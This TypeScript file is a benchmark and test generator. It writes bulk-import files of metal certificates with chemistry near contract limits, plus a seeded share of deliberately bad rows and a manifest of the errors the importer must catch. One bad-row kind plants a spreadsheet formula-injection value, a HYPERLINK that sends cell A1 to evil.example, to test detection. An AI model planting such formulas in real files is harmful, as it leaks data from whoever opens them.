// Realistic bulk-import files (issue #4): CSV, XLSX or NDJSON eCOAs for any mix of metals, with
// chemistry near the contract limits (certificates/samples.ts) and a configurable share of bad rows
// of six kinds. Also a library: the import tests and bench/import-100k.ts call generateFile.
//
//   node --import tsx bench/generate-certificates.ts --out /tmp/ecoas.xlsx --certificates 100000 \
//     --brands ATACU:CA:cathodes:CL,ELDAL:AH:ingots:IS --bad 0.01 [--max-bundles 1] [--seed 1]
//
// The format follows the file extension (.csv, .xlsx, .ndjson). A manifest of the bad rows (row,
// kind, the column and error code the import must report) is written beside it as <out>.bad.json.
import fs from 'node:fs';
import { once } from 'node:events';
import ExcelJS from 'exceljs';
import type { Submission } from '../src/certificates/model.ts';
import { sampleSubmission, seededRng, type Rng } from '../src/certificates/samples.ts';
import { readReferenceSpecs } from '../src/metals/repo.ts';
import { METAL_CODES, type ContractSpec, type MetalCode } from '../src/metals/spec-types.ts';
import { templateHeader, submissionRows } from '../src/imports/templates.ts';
import { csvLine } from '../src/imports/templates.ts';

export type GenFormat = 'csv' | 'xlsx' | 'ndjson';

export interface GenBrand {
  code: string;
  metal: MetalCode;
  shapes: string[];
  country: string;
}

export const BAD_KINDS = ['chemistry', 'weights', 'country', 'date', 'decimal', 'formula'] as const;
export type BadKind = (typeof BAD_KINDS)[number];

export interface BadRecord {
  /** First file row of the certificate (spreadsheet row, header = 1; NDJSON line). */
  row: number;
  brand: string;
  pcr: string;
  kind: BadKind;
  /** The column (tabular) or JSON path (NDJSON) and the error code the import must report. */
  column: string;
  code: string;
  /** Whether the import stores it as a rejected certificate (rule failures) or only reports it. */
  stored: boolean;
}

export interface GenOptions {
  brands: GenBrand[];
  certificates: number;
  /** Share of certificates made bad, 0..1. */
  badShare: number;
  seed?: number;
  /** Merge each cast's bundles into at most this many (weights still add up); default: as sampled. */
  maxBundles?: number;
  pcrPrefix?: string;
}

export interface Generated {
  format: GenFormat;
  rows: number;
  certificates: number;
  bad: BadRecord[];
}

const SPECS = new Map<string, ContractSpec>();
for (const s of readReferenceSpecs()) if (!SPECS.has(s.metal) || SPECS.get(s.metal)!.version < s.version) SPECS.set(s.metal, s);

const tenths = (s: string): number => Math.round(Number(s) * 10);
const fromTenths = (n: number): string => `${Math.floor(n / 10)}.${n % 10}`;

function mergeBundles(s: Submission, max: number): Submission {
  if (s.bundles.length <= max) return s;
  const per = Math.ceil(s.bundles.length / max);
  const bundles: Submission['bundles'] = [];
  for (let i = 0; i < s.bundles.length; i += per) {
    const group = s.bundles.slice(i, i + per);
    bundles.push({
      number: group[0]!.number,
      pieces: group.reduce((a, b) => a + b.pieces, 0),
      netKg: fromTenths(group.reduce((a, b) => a + tenths(b.netKg), 0)),
      grossKg: fromTenths(group.reduce((a, b) => a + tenths(b.grossKg ?? '0'), 0)),
    });
  }
  return { ...s, bundles };
}

const productionDate = (rng: Rng): string => {
  const d = new Date(Date.UTC(2025, 0, 1) + Math.floor(rng() * 600) * 86_400_000);
  return d.toISOString().slice(0, 10);
};

/** Spoils one certificate; says where the import must find the problem. */
function spoil(s: Submission, kind: BadKind, tabular: boolean): { s: Submission; column: string; code: string; stored: boolean } {
  const spec = SPECS.get(s.metal!);
  const col = (tab: string, json: string) => (tabular ? tab : json);
  switch (kind) {
    case 'chemistry': {
      const el = Object.keys(spec?.elements ?? {}).find((e) => s.chemistry[e] && !s.chemistry[e]!.operator);
      if (el) {
        const value = (Number(spec!.elements[el]!.max) * 3).toFixed(5);
        return { s: { ...s, chemistry: { ...s.chemistry, [el]: { value, unit: '%' } } }, column: col(el, `chemistry.${el}`), code: 'element_exceeds', stored: true };
      }
      const base = spec?.purity?.element;
      if (base && s.chemistry[base]) {
        const value = (Number(spec!.purity!.min) - 0.5).toFixed(2);
        return { s: { ...s, chemistry: { ...s.chemistry, [base]: { value, unit: '%' } } }, column: col(base, `chemistry.${base}`), code: 'purity_below', stored: true };
      }
      return spoil(s, 'weights', tabular);
    }
    case 'weights':
      return { s: { ...s, netWeightKg: fromTenths(tenths(s.netWeightKg) + 10) }, column: 'netWeightKg', code: 'bundle_weights_mismatch', stored: true };
    case 'country':
      return { s: { ...s, originCountry: 'ZZ' }, column: 'originCountry', code: 'unknown_country', stored: true };
    case 'date':
      return { s: { ...s, productionDate: '2025-02-30' }, column: 'productionDate', code: 'invalid_date', stored: false };
    case 'decimal': {
      const [first, ...rest] = s.bundles;
      const netKg = first!.netKg.replace('.', ',');
      return { s: { ...s, bundles: [{ ...first!, netKg }, ...rest] }, column: col('bundleNetKg', 'bundles.0.netKg'), code: 'invalid_decimal', stored: false };
    }
    case 'formula':
      return { s: { ...s, remarks: '=HYPERLINK("http://evil.example/?"&A1,"Click for the certificate")' }, column: 'remarks', code: 'formula_like', stored: false };
  }
}

/** The certificates of a file, in order, each with what was done to it. */
export function* generateSubmissions(opts: GenOptions, tabular: boolean): Generator<{ s: Submission; bad?: Omit<BadRecord, 'row'> }> {
  const rng = seededRng(opts.seed ?? 1);
  const prefix = opts.pcrPrefix ?? 'G';
  const badEvery = opts.badShare > 0 ? Math.max(1, Math.round(1 / opts.badShare)) : 0;
  for (let i = 0; i < opts.certificates; i++) {
    const brand = opts.brands[i % opts.brands.length]!;
    const pcr = `${prefix}${brand.metal}${String(i + 1).padStart(7, '0')}`;
    let s = sampleSubmission(brand.metal, brand, pcr, productionDate(rng), rng);
    s = { ...s, shape: brand.shapes[Math.floor(rng() * brand.shapes.length)]! };
    if (opts.maxBundles) s = mergeBundles(s, opts.maxBundles);
    // Bad certificates are spread evenly (the middle of every 1/badShare), kinds in turn.
    if (badEvery && i % badEvery === Math.floor(badEvery / 2)) {
      const kind = BAD_KINDS[Math.floor(i / badEvery) % BAD_KINDS.length]!;
      const spoilt = spoil(s, kind, tabular);
      yield { s: spoilt.s, bad: { brand: brand.code, pcr, kind, column: spoilt.column, code: spoilt.code, stored: spoilt.stored } };
    } else yield { s };
  }
}

async function write(out: fs.WriteStream, text: string): Promise<void> {
  if (!out.write(text)) await once(out, 'drain');
}

export async function generateFile(file: string, opts: GenOptions): Promise<Generated> {
  const format = formatOf(file);
  const tabular = format !== 'ndjson';
  const header = templateHeader(opts.brands[0]!.metal, SPECS.get(opts.brands[0]!.metal));
  // Every metal's element columns, so one file can hold all nine.
  for (const m of new Set(opts.brands.map((b) => b.metal))) {
    for (const h of templateHeader(m, SPECS.get(m))) if (!header.includes(h)) header.push(h);
  }
  const bad: BadRecord[] = [];
  let rows = 0;
  let certificates = 0;
  let row = tabular ? 2 : 1;

  if (format === 'xlsx') {
    const wb = new ExcelJS.stream.xlsx.WorkbookWriter({ filename: file, useStyles: false, useSharedStrings: false });
    const ws = wb.addWorksheet('Certificates');
    ws.addRow(header).commit();
    for (const { s, bad: b } of generateSubmissions(opts, true)) {
      if (b) bad.push({ row, ...b });
      for (const r of submissionRows(s, header)) {
        ws.addRow(r.map((v) => (v === null ? null : typeof v === 'number' ? v : String(v)))).commit();
        rows++;
        row++;
      }
      certificates++;
    }
    ws.commit();
    await wb.commit();
    return { format, rows, certificates, bad };
  }

  const out = fs.createWriteStream(file);
  if (format === 'csv') await write(out, csvLine(header));
  let buf = '';
  for (const { s, bad: b } of generateSubmissions(opts, tabular)) {
    if (b) bad.push({ row, ...b });
    if (format === 'csv') {
      for (const r of submissionRows(s, header)) {
        buf += csvLine(r);
        rows++;
        row++;
      }
    } else {
      buf += JSON.stringify(s) + '\n';
      rows++;
      row++;
    }
    certificates++;
    if (buf.length > 256 * 1024) {
      await write(out, buf);
      buf = '';
    }
  }
  await write(out, buf);
  out.end();
  await once(out, 'finish');
  return { format, rows, certificates, bad };
}

export function formatOf(file: string): GenFormat {
  const ext = file.split('.').at(-1)?.toLowerCase();
  if (ext === 'csv' || ext === 'xlsx' || ext === 'ndjson') return ext;
  throw new Error(`Name the file .csv, .xlsx or .ndjson (got ${file})`);
}

/** One brand per metal, for files that cover every metal. */
export const ALL_METAL_BRANDS = (tag: string): GenBrand[] =>
  METAL_CODES.map((metal) => ({ code: `${metal}${tag}`.slice(0, 12), metal, shapes: [SPECS.get(metal)?.shapes[0] ?? 'ingots'], country: 'CL' }));

function parseArgs(argv: string[]): Record<string, string> {
  const out: Record<string, string> = {};
  for (let i = 0; i < argv.length; i++) {
    const a = argv[i]!;
    if (!a.startsWith('--')) throw new Error(`Unexpected argument ${a}`);
    out[a.slice(2)] = argv[i + 1] ?? '';
    i++;
  }
  return out;
}

async function main(): Promise<void> {
  const a = parseArgs(process.argv.slice(2));
  if (!a.out) throw new Error('Usage: generate-certificates.ts --out FILE.(csv|xlsx|ndjson) [--certificates N] [--brands CODE:METAL:SHAPE:CC,…] [--bad 0.01] [--max-bundles K] [--seed S]');
  const brands: GenBrand[] = a.brands
    ? a.brands.split(',').map((b) => {
        const [code, metal, shape, country] = b.split(':');
        if (!code || !(METAL_CODES as readonly string[]).includes(metal ?? '')) throw new Error(`Brand ${b}: write CODE:METAL:SHAPE:COUNTRY`);
        return { code, metal: metal as MetalCode, shapes: [shape || 'ingots'], country: country || 'CL' };
      })
    : ALL_METAL_BRANDS('GEN');
  const started = Date.now();
  const g = await generateFile(a.out, {
    brands,
    certificates: Number(a.certificates ?? 1000),
    badShare: Number(a.bad ?? 0.01),
    seed: Number(a.seed ?? 1),
    ...(a['max-bundles'] ? { maxBundles: Number(a['max-bundles']) } : {}),
  });
  fs.writeFileSync(`${a.out}.bad.json`, JSON.stringify(g.bad, null, 1));
  const bytes = fs.statSync(a.out).size;
  console.log(`${a.out}: ${g.certificates} certificates in ${g.rows} rows (${g.format}, ${(bytes / 1e6).toFixed(1)} MB), ${g.bad.length} bad, in ${((Date.now() - started) / 1000).toFixed(1)} s`);
}

if (import.meta.url === `file://${process.argv[1]}`) {
  main().catch((e: unknown) => {
    console.error(e instanceof Error ? e.message : e);
    process.exitCode = 1;
  });
}
